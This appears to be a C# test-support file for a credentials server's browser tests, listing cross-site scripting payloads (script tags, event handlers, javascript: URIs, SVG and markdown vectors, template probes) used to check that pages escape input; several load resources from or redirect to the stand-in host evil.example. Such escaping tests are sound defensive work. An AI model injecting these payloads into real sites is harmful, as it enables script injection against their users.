namespace Promote.Credentials.Server.Tests.Browser;

/// <summary>Texts that would run as script, or call another host, if a page wrote one of them unescaped. Each fits into a single line.</summary>
internal static class Payloads
{
    public static IReadOnlyList<string> All { get; } =
    [
        "<script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "--><script>alert(1)</script><!--",
        "\"><script>alert(1)</script>",
        "'><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "</style><script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "<ScRiPt/x>alert(1)</sCrIpT >",
        "<script src=//evil.example/x.js></script>",
        "<img src=x onerror=alert(1)>",
        "<img/src=\"x\"/onerror=alert(1)//",
        "\" onmouseover=\"alert(1)\" autofocus onfocus=\"alert(1)",
        "' autofocus onfocus='alert(1)' x='",
        "<svg onload=alert(1)>",
        "<svg><script>alert&#40;1)</script>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<math><mi xlink:href=\"javascript:alert(1)\">click</mi></math>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"//evil.example/x.swf\">",
        "<details open ontoggle=alert(1)>",
        "<body onload=alert(1)>",
        "<base href=\"//evil.example/\">",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<meta http-equiv=refresh content=\"0;url=//evil.example/\">",
        "<form action=//evil.example><button autofocus>go</button></form>",
        "<style>@import '//evil.example/x.css';</style>",
        "[click](javascript:alert(1))",
        "![x](//evil.example/x.png)",
        "[x](\" onmouseover=\"alert(1))",
        "<javascript:alert(1)>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "@{ alert(1) } @Html.Raw(1) <%= 7*7 %>",
        "＜script＞alert(1)＜/script＞",
    ];
}
